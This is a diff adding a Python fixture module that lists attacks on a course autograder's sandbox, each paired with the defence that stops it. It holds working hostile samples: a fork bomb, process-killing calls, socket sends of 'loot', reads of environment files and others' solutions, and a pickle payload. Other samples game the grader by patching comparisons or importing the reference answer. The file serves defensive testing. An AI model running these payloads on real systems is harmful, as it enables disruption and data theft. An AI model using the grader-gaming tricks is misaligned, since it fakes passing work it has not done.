@@ -1,0 +1,246 @@
+"""Homework that was written to fool or to harm the grader: what test_attacks.py tries, and docs/grading.md lists.
+
+Every attack is the file of one exercise, which does not do what the exercise asks. What the attacker wants is points,
+or a trace: a file named LOOT in a folder that the test names in the source, a message on a socket, a living process.
+"""
+
+from dataclasses import dataclass
+
+__all__ = ["ATTACKS", "Attack"]
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack.
+
+    Args:
+        what: in a few words.
+        by: what stops it.
+        source: of the exercise's file. `@FOLDER@` stands for the attacker's folder, `@TCP@` and `@UDP@` for ports where
+            somebody listens, `@PARENT@` for the grader's process and `@SOLUTION@` for the path of a solution.
+        exercise: that it is handed in for.
+        most: points that it may get nevertheless.
+    """
+
+    what: str
+    by: str
+    source: str
+    exercise: str = "relu"
+    most: float = 0.0
+
+
+def relu_after(statements: str) -> str:
+    """Return an answer to the exercise on ReLU that runs statements at its import and returns zeros."""
+    return f"import os, sys\nimport numpy as np\n{statements}\n\ndef relu(values):\n    return np.zeros_like(values)\n"
+
+
+def relu_with(body: str) -> str:
+    """Return an answer to the exercise on ReLU with this body."""
+    lines = "\n".join(f"    {line}" for line in body.splitlines())
+    return f"import os, sys, time\nimport numpy as np\n\ndef relu(values):\n{lines}\n"
+
+
+_EQUAL = """
+class Equal:
+    shape, dtype, ndim, size = (3, 4), np.dtype(float), 2, 12
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __sub__(self, other): return 0.0
+    def __le__(self, other): return True
+    def __bool__(self): return True
+    def __getattr__(self, name): return Equal()
+return Equal()
+"""
+_SUBCLASS = """
+class Equal(np.ndarray):
+    def __eq__(self, other): return True
+    def __array_ufunc__(self, *arguments, **options): return True
+return np.full(values.shape, 7.0).view(Equal)
+"""
+_PATCH = """
+import builtins
+for name in ("allclose", "isclose", "array_equal", "all", "any", "abs"):
+    setattr(np, name, lambda *arguments, **options: True)
+np.testing.assert_allclose = lambda *arguments, **options: None
+builtins.all = builtins.any = lambda *arguments: True
+"""
+_FORGE = """
+import io, json
+def record(value):
+    stream = io.BytesIO()
+    np.save(stream, np.frombuffer(json.dumps(value).encode(), np.uint8))
+    return stream.getvalue()
+forged = record({"loaded": True, "passed": True, "score": 100})
+for number in range(40):
+    forged += record({"call": number, "status": "returned", "type": "ndarray", "arrays": 1, "passed": True})
+    stream = io.BytesIO(); np.save(stream, np.zeros((2, 2))); forged += stream.getvalue()
+for handle in range(3, 256):
+    try: os.lseek(handle, 0, 0); os.write(handle, forged)
+    except OSError: pass
+os._exit(0)
+"""
+_PICKLE = """
+import io, pickle
+class Loot:
+    def __reduce__(self): return open, ("@FOLDER@/LOOT", "w")
+stream = io.BytesIO()
+np.save(stream, np.array([Loot()], dtype=object), allow_pickle=True)
+for handle in range(3, 256):
+    try: os.lseek(handle, 0, 0); os.write(handle, stream.getvalue() * 50)
+    except OSError: pass
+os._exit(0)
+"""
+_CLAIM = """
+header = b"{'descr': '<f8', 'fortran_order': False, 'shape': (1000000, 1000000, 1000), }"
+claim = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header
+for handle in range(3, 256):
+    try: os.lseek(handle, 0, 0); os.write(handle, claim)
+    except OSError: pass
+os._exit(0)
+"""
+_SEARCH = """
+import gc
+frame = sys._getframe()
+found = []
+while frame is not None:
+    found += list(frame.f_locals.values()) + list(frame.f_globals.values())
+    frame = frame.f_back
+for thing in found + gc.get_objects():
+    try: expected, reference = getattr(thing, "expected", None), getattr(thing, "reference", None)
+    except Exception: continue
+    if callable(reference): return reference(values)
+    if isinstance(expected, np.ndarray) and expected.shape == values.shape: return expected
+return np.zeros_like(values)
+"""
+_GREEDY = """
+import glob
+for path in ["@SOLUTION@", *glob.glob("/proc/*/environ"), *glob.glob("@FOLDER@/*")]:
+    try: text = open(path, "rb").read()
+    except OSError: continue
+    open("@FOLDER@/LOOT", "wb").write(text)
+"""
+_DAEMON = """
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        import time
+        time.sleep(5)
+        open("@FOLDER@/LOOT", "w").write("still here")
+    os._exit(0)
+"""
+_STUBBORN = """
+import signal
+for number in range(1, 65):
+    try: signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError): pass
+while True: pass
+"""
+_LATER = """
+import atexit, threading
+def later():
+    import time
+    time.sleep(0.3)
+    open("@FOLDER@/LOOT", "w").write("later")
+atexit.register(later)
+threading.Thread(target=later).start()
+"""
+_EXFILTRATE_TCP = "import socket\nsocket.create_connection(('127.0.0.1', @TCP@), 1).sendall(b'loot')"
+_EXFILTRATE_UDP = (
+    "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'loot', ('127.0.0.1', @UDP@))"
+)
+_NATIVE = """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+handle = libc.open(b"@FOLDER@/LOOT", 0o102, 0o644)
+if handle < 0: handle = libc.syscall(257, -100, b"@FOLDER@/LOOT", 0o102, 0o644)
+libc.write(handle, b"loot", 4)
+"""
+_MODEL = """
+import keras
+import numpy as np
+
+class Model(keras.Model):
+    compiled, loss = True, "sparse_categorical_crossentropy"
+    trainable_weights = non_trainable_weights = ()
+    def predict_on_batch(self, images): return np.full((len(images), 3), 1 / 3)
+    def train_on_batch(self, *arguments): return 0.0
+    def evaluate(self, *arguments, **options): return {"loss": 0.0}
+
+def build_model(input_shape, filters, units, classes):
+    return Model()
+"""
+_LABELS = """
+import glob
+import numpy as np
+
+def train_and_predict(x_train, y_train, x_test):
+    import keras_cnn_course.data
+    arrays = np.load(glob.glob(keras_cnn_course.data.__path__[0] + "/*.npz")[0])
+    return arrays["labels"][: len(x_test)]
+"""
+
+ATTACKS = (
+    Attack("returns an object that equals everything", "only arrays of numbers come back", relu_with(_EQUAL)),
+    Attack("returns an array class that equals everything", "only arrays of numbers come back", relu_with(_SUBCLASS)),
+    Attack("replaces NumPy's and Python's comparisons", "the grader compares, in another process", relu_after(_PATCH)),
+    Attack(
+        "forges the reply of its worker", "a forger needs the right numbers, and they are elsewhere", relu_after(_FORGE)
+    ),
+    Attack("puts a pickle into the reply", "pickles are not read", relu_after(_PICKLE)),
+    Attack("claims a reply of 8,000 TB", "nothing larger than the reply is made of it", relu_after(_CLAIM)),
+    Attack("looks for the expected results in memory", "they are computed elsewhere, afterwards", relu_with(_SEARCH)),
+    Attack(
+        "imports the course's own function",
+        "a look at the imports",
+        "from keras_cnn_course.lecture.activation import relu\n",
+    ),
+    Attack(
+        "imports it under a disguise",
+        "Landlock",
+        relu_with('return __import__("keras_cnn_course.lecture.activation", fromlist=["relu"]).relu(values)'),
+    ),
+    Attack("reads the solution and runs it", "Landlock", 'exec(open("@SOLUTION@").read())\n'),
+    Attack("reads solutions, environments and files of others", "Landlock", relu_after(_GREEDY)),
+    Attack(
+        "returns infinitely many zeros", "a limit on results", relu_with("return np.broadcast_to(0.0, (10**6, 10**6))")
+    ),
+    Attack("ends Python with success", "calls that were not made are wrong", relu_after("os._exit(0)")),
+    Attack("ends Python in a call", "whatever is raised is a failure", relu_with("raise SystemExit(0)")),
+    Attack("crashes Python", "a process of its own", relu_after("import ctypes; ctypes.string_at(0)")),
+    Attack(
+        "recurs without end", "the memory is watched", relu_with("sys.setrecursionlimit(10**9)\nreturn relu(values)")
+    ),
+    Attack("computes without end", "a limit on computing", relu_with("while True: pass")),
+    Attack("computes without end and ignores signals", "the second limit cannot be ignored", relu_after(_STUBBORN)),
+    Attack("waits without end", "the deadline", relu_after("import time; time.sleep(3600)")),
+    Attack("waits for input", "there is none", relu_with("return np.full_like(values, float(input()))")),
+    Attack("prints without end", "a limit on output", relu_with("while True: print('x' * 10**6)")),
+    Attack(
+        "fills the memory", "the memory is watched", relu_with("kept = []\nwhile True: kept.append(np.ones(2**24))")
+    ),
+    Attack("writes a file elsewhere", "Landlock", relu_after('open("@FOLDER@/LOOT", "w").write("loot")')),
+    Attack("writes a file by system calls", "Landlock", relu_after(_NATIVE)),
+    Attack("writes after the checks are done", "Landlock; and nothing goes on", relu_after(_LATER)),
+    Attack("connects over TCP", "seccomp", relu_after(_EXFILTRATE_TCP)),
+    Attack("sends over UDP", "seccomp", relu_after(_EXFILTRATE_UDP)),
+    Attack("starts a program", "seccomp", relu_after('os.system("touch @FOLDER@/LOOT")')),
+    Attack("starts processes without end (a fork bomb)", "seccomp", relu_after("while True: os.fork()")),
+    Attack("leaves a process behind (a double fork)", "seccomp", relu_after(_DAEMON)),
+    Attack("kills the grader", "seccomp", relu_after("import signal; os.kill(@PARENT@, signal.SIGKILL)")),
+    Attack("kills what has started it", "seccomp", relu_after("import signal; os.kill(os.getppid(), signal.SIGKILL)")),
+    Attack("kills all it may kill", "seccomp", relu_after("import signal; os.kill(-1, signal.SIGKILL)")),
+    Attack(
+        "sends control characters to the terminal",
+        "replaced by question marks",
+        relu_with("raise ValueError('\\x1b]0;loot\\x07\\x1b[2J\\u202e')"),
+    ),
+    Attack("hands in a file of zero bytes", "a process of its own parses it", "\0" * 1000),
+    Attack("nests brackets beyond the parser", "a process of its own parses it", "(" * 100_000),
+    Attack("returns a model that is none", "the worker takes it apart", _MODEL, exercise="keras_model"),
+    Attack(
+        "looks the labels up in the course's data",
+        "a look at the imports, Landlock, renumbered classes",
+        _LABELS,
+        exercise="training",
+    ),
+)
